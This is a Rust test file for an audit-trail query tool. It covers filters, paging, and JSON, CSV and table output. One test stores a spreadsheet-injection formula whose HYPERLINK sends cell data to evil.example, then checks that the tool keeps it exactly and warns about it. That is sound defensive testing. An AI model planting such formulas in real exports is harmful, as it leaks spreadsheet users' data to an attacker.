//! `audit-trail query --db`: every filter returns exactly the right events of the known trail
//! (see `common::known_trail`), paging goes through the store's keyset cursor, and each format
//! holds what it promises (JSON lines are the stored canonical lines, CSV parses back, the table
//! shows the rows and no terminal escape).

mod common;
use common::*;

fn query(db: &TestDb, args: &[&str]) -> std::process::Output {
    let mut all = vec!["query", "--db", db.url()];
    all.extend_from_slice(args);
    run(&all)
}

/// The seqs a JSON query of chain `default` returns (unless `args` name a chain).
fn found(db: &TestDb, args: &[&str]) -> Vec<u64> {
    let mut all = args.to_vec();
    if !args.contains(&"--chain") {
        all.extend(["--chain", "default"]);
    }
    all.extend(["--format", "json"]);
    let output = query(db, &all);
    assert_exit(&output, 0);
    seqs(&stdout(&output))
}

/// The `(chain, seq)` of the events a JSON query returns.
fn found_in(db: &TestDb, args: &[&str]) -> Vec<(String, u64)> {
    let mut all = args.to_vec();
    all.extend(["--format", "json"]);
    let output = query(db, &all);
    assert_exit(&output, 0);
    positions(&stdout(&output))
}

fn filters_return_exactly_the_matching_events(db: &TestDb) {
    known_trail(db);
    assert_eq!(found(db, &["--actor", "bob"]), [2, 4, 5, 13]);
    assert_eq!(found(db, &["--actor", "alice"]), [1, 11]);
    assert_eq!(found(db, &["--actor", "alice", "--chain", "tenant-b"]), [1]);
    // Without --chain, every chain, in (chain, seq) order.
    let at = |chain: &str, seq: u64| (chain.to_string(), seq);
    assert_eq!(found_in(db, &["--actor", "alice"]), [at("default", 1), at("default", 11), at("tenant-b", 1)]);
    assert_eq!(found_in(db, &["--outcome", "denied"]), [at("default", 5), at("tenant-b", 2)]);
    let output = query(db, &["--actor", "alice", "--limit", "2", "--format", "json"]);
    assert_eq!(positions(&stdout(&output)), [at("default", 1), at("default", 11)]);
    assert!(stderr(&output).contains("more match"), "{}", stderr(&output));
    assert_eq!(found(db, &["--action", "login", "--outcome", "failure"]), [2, 4, 8, 13]);
    assert_eq!(found(db, &["--outcome", "denied"]), [5]);
    assert_eq!(found(db, &["--resource-type", "users", "--resource-id", "42"]), [1, 3, 6, 7, 11, 12]);
    assert_eq!(found(db, &["--resource-type", "users"]), [1, 3, 6, 7, 10, 11, 12]);
    assert_eq!(found(db, &["--resource-id", "7"]), [9]);
    assert_eq!(found(db, &["--since", "2026-02-01", "--until", "2026-03-01"]), [5, 6, 7, 8, 9, 10]);
    assert_eq!(found(db, &["--since", "2026-02-01T00:00:00+00:00", "--actor", "bob"]), [5, 13]);
    assert_eq!(found(db, &["--until", "2026-01-01T10:00:00.000003Z"]), [1, 2], "until is exclusive");
    assert_eq!(found(db, &["--actor", TRICKY_ACTOR]), [12]);
    assert_eq!(found(db, &["--actor", "nobody"]), Vec::<u64>::new());

    // Limits and paging (the store is asked a page at a time).
    let output = query(db, &["--actor", "bob", "--limit", "3", "--format", "json"]);
    assert_exit(&output, 0);
    assert_eq!(seqs(&stdout(&output)), [2, 4, 5]);
    assert!(stderr(&output).contains("showing the first 3 matching events; more match"), "{}", stderr(&output));
    let output = query(db, &["--actor", "bob", "--limit", "4", "--format", "json"]);
    assert_eq!(seqs(&stdout(&output)), [2, 4, 5, 13]);
    assert!(!stderr(&output).contains("more match"), "exactly 4 match: {}", stderr(&output));
    assert_eq!(found(db, &["--limit", "0"]), (1..=13).collect::<Vec<_>>());
    let output = query(db, &["--limit", "5", "--format", "json"]);
    assert_eq!(seqs(&stdout(&output)), [1, 2, 3, 4, 5]);
    assert!(stderr(&output).contains("more match"));
    let output = query(db, &["--actor", "nobody", "--format", "json"]);
    assert_exit(&output, 0);
    assert!(stderr(&output).contains("no matching events"), "{}", stderr(&output));
    // A mistyped chain is an error, not an empty result.
    let output = query(db, &["--chain", "tenant-c"]);
    assert_exit(&output, 2);
    assert!(stderr(&output).contains("chain \"tenant-c\" has no events"), "{}", stderr(&output));
}
on_all_backends!(filters_return_exactly_the_matching_events);

fn request_id_finds_the_events_of_one_request(db: &TestDb) {
    known_trail(db);
    let in_request = |action: &str, request_id: Option<&str>| {
        let context = audit_core::Context { request_id: request_id.map(String::from), ..Default::default() };
        audit_core::EventDraft::new(action).actor(audit_core::Actor::user("alice")).context(context)
    };
    db.record(
        "requests",
        vec![
            in_request("PUT /users/{id}", Some("r-1")),
            in_request("update", Some("r-1")),
            // Other requests: the same letters in capitals (ids compare exactly), one that starts
            // with it; and an event without a request id.
            in_request("update", Some("R-1")),
            in_request("update", Some("r-10")),
            in_request("update", None),
        ],
    );
    let at = |chain: &str, seq: u64| (chain.to_string(), seq);
    assert_eq!(found_in(db, &["--request-id", "r-1"]), [at("requests", 1), at("requests", 2)]);
    assert_eq!(found_in(db, &["--request-id", "R-1"]), [at("requests", 3)]);
    assert_eq!(found_in(db, &["--request-id", "r-1", "--action", "update"]), [at("requests", 2)]);
    assert_eq!(found_in(db, &["--request-id", "req-1"]), [at("default", 1)], "the known trail's");
    assert_eq!(found(db, &["--request-id", "r-1"]), Vec::<u64>::new(), "not in chain default");
    assert_eq!(found_in(db, &["--request-id", "r-"]), Vec::<(String, u64)>::new());
}
on_all_backends!(request_id_finds_the_events_of_one_request);

fn json_lines_are_the_stored_canonical_lines(db: &TestDb) {
    known_trail(db);
    let output = query(db, &["--chain", "default", "--limit", "0", "--format", "json"]);
    assert_exit(&output, 0);
    let stored: String = db.stored_lines("default").into_iter().map(|(_, line)| line + "\n").collect();
    assert_eq!(stdout(&output), stored, "byte for byte");
    let file = db.dir().join("all.jsonl");
    std::fs::write(&file, &output.stdout).expect("write");
    let output = run(&["verify", "--jsonl", s(&file)]);
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "valid: 13 events\n");

    // In a pipe (as here), the default format is JSON lines.
    let output = query(db, &["--actor", "bob"]);
    assert_exit(&output, 0);
    assert_eq!(seqs(&stdout(&output)), [2, 4, 5, 13]);
}
on_all_backends!(json_lines_are_the_stored_canonical_lines);

fn csv_parses_back_to_the_events(db: &TestDb) {
    known_trail(db);
    let output =
        query(db, &["--chain", "default", "--resource-type", "users", "--resource-id", "42", "--format", "csv"]);
    assert_exit(&output, 0);
    let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
    let header: Vec<String> = reader.headers().expect("header row").iter().map(str::to_string).collect();
    assert_eq!(&header[..4], ["chain", "seq", "ts", "id"]);
    let column = |name: &str| header.iter().position(|h| h == name).expect("column");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
    let seq_of: Vec<&str> = rows.iter().map(|r| &r[column("seq")]).collect();
    assert_eq!(seq_of, ["1", "3", "6", "7", "11", "12"]);
    assert_eq!(&rows[0][column("actor_id")], "alice");
    assert_eq!(&rows[0][column("ip")], "10.0.0.1");
    assert_eq!(&rows[0][column("request_id")], "req-1");
    assert_eq!(&rows[0][column("ts")], "2026-01-01T10:00:00.000001Z");
    assert_eq!(&rows[0][column("changes")], r#"[{"field":"email","new":"b@x","old":"a@x"}]"#);
    assert_eq!(&rows[1][column("actor_kind")], "admin");
    assert_eq!(&rows[1][column("justification")], "CHG-1");
    assert_eq!(&rows[5][column("actor_id")], TRICKY_ACTOR, "commas, quotes and escapes survive");
    let stored = db.stored_lines("default");
    let hash_of_1 = audit_core::Event::from_canonical_line(&stored[0].1).expect("event").hash.to_string();
    assert_eq!(&rows[0][column("hash")], hash_of_1);

    // No rows: still the header.
    let output = query(db, &["--actor", "nobody", "--format", "csv"]);
    assert_exit(&output, 0);
    assert_eq!(stdout(&output).lines().count(), 1);
    assert!(stdout(&output).starts_with("chain,seq,ts,id,actor_id"));
}
on_all_backends!(csv_parses_back_to_the_events);

fn the_table_shows_the_rows_and_no_terminal_escape(db: &TestDb) {
    known_trail(db);
    let output = query(db, &["--resource-type", "users", "--resource-id", "42", "--format", "table"]);
    assert_exit(&output, 0);
    let table = stdout(&output);
    for header in ["chain", "seq", "ts", "actor", "action", "resource", "outcome", "ip", "request id"] {
        assert!(table.contains(header), "{header} in\n{table}");
    }
    for cell in [
        "alice (user)",
        "root (admin)",
        "exporter (system)",
        "users/42",
        "10.0.0.1",
        "req-1",
        "2026-02-01T10:00:00.000006Z",
    ] {
        assert!(table.contains(cell), "{cell} in\n{table}");
    }
    assert!(!table.contains('\u{1b}'), "no raw escape reaches the terminal:\n{table}");
    assert!(table.contains("\\u{1b}[31m"), "it is shown escaped:\n{table}");
    let rows = table.lines().filter(|line| line.contains("users/42")).count();
    assert_eq!(rows, 7, "six of chain default, one of tenant-b:\n{table}");
    assert!(table.contains("tenant-b"), "{table}");

    let output = query(db, &["--action", "login", "--outcome", "failure", "--format", "table", "--limit", "1"]);
    assert!(stdout(&output).contains("failure (bad password)"), "{}", stdout(&output));
    assert!(stderr(&output).contains("more match"));
}
on_all_backends!(the_table_shows_the_rows_and_no_terminal_escape);

fn machines_get_every_match_by_default_people_the_first_hundred(db: &TestDb) {
    db.record_plain("default", 130);
    assert_eq!(found(db, &[]), (1..=130).collect::<Vec<_>>(), "json: all of them");
    let output = query(db, &["--format", "csv"]);
    assert_exit(&output, 0);
    assert_eq!(stdout(&output).lines().count(), 1 + 130, "csv: a header and every event");
    assert!(!stderr(&output).contains("more match"), "{}", stderr(&output));
    let output = query(db, &["--format", "table"]);
    assert_exit(&output, 0);
    assert!(stderr(&output).contains("showing the first 100 matching events; more match"), "{}", stderr(&output));
}
on_all_backends!(machines_get_every_match_by_default_people_the_first_hundred);

#[test]
fn csv_values_that_a_spreadsheet_would_run_are_kept_and_counted() {
    let Some(db) = TestDb::open(Backend::Sqlite, "csv_values_that_a_spreadsheet_would_run") else { return };
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    db.record(
        "default",
        vec![
            audit_core::EventDraft::new("login").actor(audit_core::Actor::user(formula)).resource("session", "@SUM(1)"),
            audit_core::EventDraft::new("login").actor(audit_core::Actor::user("alice")).resource("session", "s1"),
        ],
    );
    let output = run(&["query", "--db", db.url(), "--format", "csv"]);
    assert_exit(&output, 0);
    let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
    let header: Vec<String> = reader.headers().expect("header row").iter().map(str::to_string).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
    let column = |name: &str| header.iter().position(|h| h == name).expect("column");
    assert_eq!(&rows[0][column("actor_id")], formula, "the evidence is exact");
    assert_eq!(&rows[0][column("resource_id")], "@SUM(1)");
    let message = stderr(&output);
    assert!(message.contains("note: 2 CSV values start with =, +, -, @"), "{message}");
    assert!(message.contains("as text"), "{message}");

    // Nothing to warn about: nothing said.
    let output = run(&["query", "--db", db.url(), "--format", "csv", "--actor", "alice"]);
    assert_exit(&output, 0);
    assert!(output.stderr.is_empty(), "{}", stderr(&output));
}
